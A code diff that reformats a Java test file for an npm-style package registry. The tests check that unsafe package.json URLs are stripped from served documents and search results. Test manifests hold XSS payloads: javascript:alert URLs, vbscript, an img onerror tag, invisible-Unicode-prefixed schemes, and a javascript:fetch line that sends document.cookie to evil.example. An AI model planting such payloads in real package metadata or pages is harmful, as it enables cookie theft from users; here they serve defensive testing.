@@ -5,13 +5,16 @@ import static org.assertj.core.api.Assertions.assertThat;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.node.ArrayNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
+
 import dev.warden.server.testing.Http;
 import dev.warden.server.testing.Tarballs;
 import dev.warden.server.testing.TestServer;
-import java.util.List;
+
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
+
+import java.util.List;
 
 /**
  * URLs from package.json that are not http(s) are not served as links: not in search results, not
@@ -39,7 +42,11 @@ class UnsafeUrlsTest {
     }
 
     private static void publish(ObjectNode manifest) throws Exception {
-        Http.Result r = http.put("/" + manifest.path("name").asText(), token, Tarballs.publishBody(manifest, Tarballs.packageTgz(manifest)));
+        Http.Result r =
+                http.put(
+                        "/" + manifest.path("name").asText(),
+                        token,
+                        Tarballs.publishBody(manifest, Tarballs.packageTgz(manifest)));
         assertThat(r.status()).as(r.body()).isEqualTo(200);
     }
 
@@ -58,7 +65,9 @@ class UnsafeUrlsTest {
         ObjectNode m = Tarballs.manifest("linky-evil", "1.0.0");
         m.put("homepage", "javascript:alert(document.cookie)");
         m.putObject("bugs").put("url", "JavaScript:alert(1)").put("email", "bugs@example.com");
-        m.putObject("repository").put("type", "git").put("url", "javascript:fetch('//evil.example/'+document.cookie)");
+        m.putObject("repository")
+                .put("type", "git")
+                .put("url", "javascript:fetch('//evil.example/'+document.cookie)");
         publish(m);
 
         JsonNode links = searchHit("linky-evil").path("links");
@@ -68,14 +77,18 @@ class UnsafeUrlsTest {
         assertThat(links.has("bugs")).isFalse();
 
         JsonNode doc = http.get("/linky-evil").json();
-        for (JsonNode d : new JsonNode[] {doc, doc.path("versions").path("1.0.0"), http.get("/linky-evil/1.0.0").json()}) {
+        for (JsonNode d :
+                new JsonNode[] {
+                    doc, doc.path("versions").path("1.0.0"), http.get("/linky-evil/1.0.0").json()
+                }) {
             assertThat(d.has("homepage")).isFalse();
             assertThat(d.path("bugs").has("url")).isFalse();
             assertThat(d.path("bugs").path("email").asText()).isEqualTo("bugs@example.com");
             assertThat(d.has("repository")).isFalse();
         }
         assertThat(http.get("/linky-evil").body()).doesNotContainIgnoringCase("javascript:");
-        assertThat(http.get("/-/v1/search?text=linky-evil").body()).doesNotContainIgnoringCase("javascript:");
+        assertThat(http.get("/-/v1/search?text=linky-evil").body())
+                .doesNotContainIgnoringCase("javascript:");
     }
 
     @Test
@@ -97,32 +110,48 @@ class UnsafeUrlsTest {
         ObjectNode m = Tarballs.manifest("linky-good", "1.0.0");
         m.put("homepage", "https://example.com/linky#readme");
         m.putObject("bugs").put("url", "https://github.com/ursula/linky/issues");
-        m.putObject("repository").put("type", "git").put("url", "git+https://github.com/ursula/linky.git");
+        m.putObject("repository")
+                .put("type", "git")
+                .put("url", "git+https://github.com/ursula/linky.git");
         publish(m);
         JsonNode doc = http.get("/linky-good").json();
         assertThat(doc.path("homepage").asText()).isEqualTo("https://example.com/linky#readme");
-        assertThat(doc.path("bugs").path("url").asText()).isEqualTo("https://github.com/ursula/linky/issues");
-        assertThat(doc.path("repository").path("url").asText()).isEqualTo("git+https://github.com/ursula/linky.git");
+        assertThat(doc.path("bugs").path("url").asText())
+                .isEqualTo("https://github.com/ursula/linky/issues");
+        assertThat(doc.path("repository").path("url").asText())
+                .isEqualTo("git+https://github.com/ursula/linky.git");
         JsonNode links = searchHit("linky-good").path("links");
         assertThat(links.path("homepage").asText()).isEqualTo("https://example.com/linky#readme");
         assertThat(links.path("repository").asText()).isEqualTo("https://github.com/ursula/linky");
 
-        String[] gitForms = {"git://github.com/ursula/linky.git", "git+ssh://git@github.com/ursula/linky.git",
-            "ssh://git@github.com/ursula/linky.git", "git@github.com:ursula/linky.git"};
+        String[] gitForms = {
+            "git://github.com/ursula/linky.git",
+            "git+ssh://git@github.com/ursula/linky.git",
+            "ssh://git@github.com/ursula/linky.git",
+            "git@github.com:ursula/linky.git"
+        };
         for (int i = 0; i < gitForms.length; i++) {
             String url = gitForms[i];
             ObjectNode v = Tarballs.manifest("linky-git", "1.0." + i);
             v.putObject("repository").put("type", "git").put("url", url);
             publish(v);
-            assertThat(http.get("/linky-git").json().path("repository").path("url").asText()).as(url).isEqualTo(url);
+            assertThat(http.get("/linky-git").json().path("repository").path("url").asText())
+                    .as(url)
+                    .isEqualTo(url);
             assertThat(searchHit("linky-git").path("links").has("repository")).as(url).isFalse();
         }
     }
 
-    /** Every form a served document of {@code name} takes: full and abbreviated packuments, the version document, search. */
+    /**
+     * Every form a served document of {@code name} takes: full and abbreviated packuments, the
+     * version document, search.
+     */
     private static List<String> served(String name) throws Exception {
-        return List.of(http.get("/" + name).body(), http.get("/" + name, null, Tarballs.abbreviatedAccept()).body(),
-                http.get("/" + name + "/1.0.0").body(), http.get("/-/v1/search?text=" + name).body());
+        return List.of(
+                http.get("/" + name).body(),
+                http.get("/" + name, null, Tarballs.abbreviatedAccept()).body(),
+                http.get("/" + name + "/1.0.0").body(),
+                http.get("/-/v1/search?text=" + name).body());
     }
 
     @Test
@@ -132,8 +161,13 @@ class UnsafeUrlsTest {
         funding.add("https://github.com/sponsors/ursula");
         funding.addObject().put("type", "patreon").put("url", "javascript:alert(document.cookie)");
         funding.add("\u200Bjavascript:alert(2)");
-        funding.addObject().put("type", "opencollective").put("url", "https://opencollective.com/linky");
-        m.putObject("author").put("name", "Mal").put("email", "mal@example.com").put("url", "javascript:alert(3)");
+        funding.addObject()
+                .put("type", "opencollective")
+                .put("url", "https://opencollective.com/linky");
+        m.putObject("author")
+                .put("name", "Mal")
+                .put("email", "mal@example.com")
+                .put("url", "javascript:alert(3)");
         ArrayNode contributors = m.putArray("contributors");
         contributors.addObject().put("name", "Cy").put("url", "\u2028javascript:alert(4)");
         contributors.add("Eve <eve@example.com> (javascript:alert(5))");
@@ -142,27 +176,51 @@ class UnsafeUrlsTest {
 
         JsonNode doc = http.get("/linky-fund").json();
         JsonNode abbreviated = http.get("/linky-fund", null, Tarballs.abbreviatedAccept()).json();
-        JsonNode expectedFunding = TestServer.parse("[\"https://github.com/sponsors/ursula\","
-                + " {\"type\": \"opencollective\", \"url\": \"https://opencollective.com/linky\"}]");
-        for (JsonNode v : new JsonNode[] {doc.path("versions").path("1.0.0"), abbreviated.path("versions").path("1.0.0"),
-            http.get("/linky-fund/1.0.0").json()}) {
+        JsonNode expectedFunding =
+                TestServer.parse(
+                        "[\"https://github.com/sponsors/ursula\", {\"type\": \"opencollective\","
+                                + " \"url\": \"https://opencollective.com/linky\"}]");
+        for (JsonNode v :
+                new JsonNode[] {
+                    doc.path("versions").path("1.0.0"),
+                    abbreviated.path("versions").path("1.0.0"),
+                    http.get("/linky-fund/1.0.0").json()
+                }) {
             assertThat(v.path("funding")).isEqualTo(expectedFunding);
         }
-        for (JsonNode d : new JsonNode[] {doc, doc.path("versions").path("1.0.0"), http.get("/linky-fund/1.0.0").json()}) {
-            assertThat(d.path("author")).isEqualTo(TestServer.parse("{\"name\": \"Mal\", \"email\": \"mal@example.com\"}"));
+        for (JsonNode d :
+                new JsonNode[] {
+                    doc, doc.path("versions").path("1.0.0"), http.get("/linky-fund/1.0.0").json()
+                }) {
+            assertThat(d.path("author"))
+                    .isEqualTo(
+                            TestServer.parse(
+                                    "{\"name\": \"Mal\", \"email\": \"mal@example.com\"}"));
         }
-        assertThat(doc.path("versions").path("1.0.0").path("contributors")).isEqualTo(TestServer.parse(
-                "[{\"name\": \"Cy\"}, \"Eve <eve@example.com>\", {\"name\": \"Di\", \"url\": \"https://di.example\"}]"));
+        assertThat(doc.path("versions").path("1.0.0").path("contributors"))
+                .isEqualTo(
+                        TestServer.parse(
+                                "[{\"name\": \"Cy\"}, \"Eve <eve@example.com>\", {\"name\": \"Di\","
+                                        + " \"url\": \"https://di.example\"}]"));
         for (String body : served("linky-fund")) {
-            assertThat(body).doesNotContainIgnoringCase("javascript:").doesNotContain("\u200B", "\u2028");
+            assertThat(body)
+                    .doesNotContainIgnoringCase("javascript:")
+                    .doesNotContain("\u200B", "\u2028");
         }
 
         // a funding field with no link left is not served at all
         ObjectNode bare = Tarballs.manifest("linky-nofund", "1.0.0");
         bare.putObject("funding").put("type", "individual").put("url", "\uFEFFjavascript:alert(6)");
         publish(bare);
-        assertThat(http.get("/linky-nofund").json().path("versions").path("1.0.0").has("funding")).isFalse();
-        assertThat(http.get("/linky-nofund", null, Tarballs.abbreviatedAccept()).json().path("versions").path("1.0.0").has("funding")).isFalse();
+        assertThat(http.get("/linky-nofund").json().path("versions").path("1.0.0").has("funding"))
+                .isFalse();
+        assertThat(
+                        http.get("/linky-nofund", null, Tarballs.abbreviatedAccept())
+                                .json()
+                                .path("versions")
+                                .path("1.0.0")
+                                .has("funding"))
+                .isFalse();
         ObjectNode single = Tarballs.manifest("linky-strfund", "1.0.0");
         single.put("funding", "vbscript:msgbox(1)");
         publish(single);
@@ -173,7 +231,9 @@ class UnsafeUrlsTest {
     void invisibleCharactersAndUnknownRepositoryFormsAreNotServed() throws Exception {
         ObjectNode m = Tarballs.manifest("linky-invisible", "1.0.0");
         m.put("homepage", "\u200Bjavascript:alert(1)");
-        m.putObject("bugs").put("url", "\u202Ejavascript:alert(2)").put("email", "bugs@example.com");
+        m.putObject("bugs")
+                .put("url", "\u202Ejavascript:alert(2)")
+                .put("email", "bugs@example.com");
         m.putObject("repository").put("type", "git").put("url", "\u2060javascript:alert(3)");
         publish(m);
         JsonNode doc = http.get("/linky-invisible").json();
@@ -186,8 +246,14 @@ class UnsafeUrlsTest {
         }
 
         // without a scheme, only npm's shorthands are repositories
-        String[][] forms = {{"evil.example.com/x/y", null}, {"alert(1)", null}, {"<img src=x onerror=alert(1)>", null},
-            {"ursula/linky", "ursula/linky"}, {"github:ursula/linky", "github:ursula/linky"}, {"git@github.com:ursula/linky.git", "git@github.com:ursula/linky.git"}};
+        String[][] forms = {
+            {"evil.example.com/x/y", null},
+            {"alert(1)", null},
+            {"<img src=x onerror=alert(1)>", null},
+            {"ursula/linky", "ursula/linky"},
+            {"github:ursula/linky", "github:ursula/linky"},
+            {"git@github.com:ursula/linky.git", "git@github.com:ursula/linky.git"}
+        };
         for (int i = 0; i < forms.length; i++) {
             ObjectNode v = Tarballs.manifest("linky-forms", "1.0." + i);
             v.put("repository", forms[i][0]);
@@ -198,7 +264,9 @@ class UnsafeUrlsTest {
             } else {
                 assertThat(repository.asText()).as(forms[i][0]).isEqualTo(forms[i][1]);
             }
-            assertThat(searchHit("linky-forms").path("links").has("repository")).as(forms[i][0]).isFalse();
+            assertThat(searchHit("linky-forms").path("links").has("repository"))
+                    .as(forms[i][0])
+                    .isFalse();
         }
     }
 }
